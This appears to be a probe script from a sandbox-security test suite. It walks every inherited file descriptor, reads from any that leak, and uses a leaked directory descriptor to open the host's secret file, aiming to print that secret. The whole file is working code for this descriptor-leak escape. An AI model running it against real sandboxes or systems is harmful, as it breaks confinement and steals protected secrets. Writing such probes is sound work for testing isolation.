# Tries: to read from inherited descriptors.
# Success: a secret of the host is printed.
import os
import socket
import stat

import host

for number in range(3, 1024):
    try:
        kind = os.readlink(f"/proc/self/fd/{number}")
        if stat.S_ISDIR(os.fstat(number).st_mode):
            print(os.listdir(number)[:20])
            print(open(os.open(host.SECRET_FILE.lstrip("/"), os.O_RDONLY, dir_fd=number)).read())
        os.set_blocking(number, False)
        host.print_tokens(kind.encode())
        host.print_tokens(os.read(number, 1 << 16))
    except OSError:
        pass
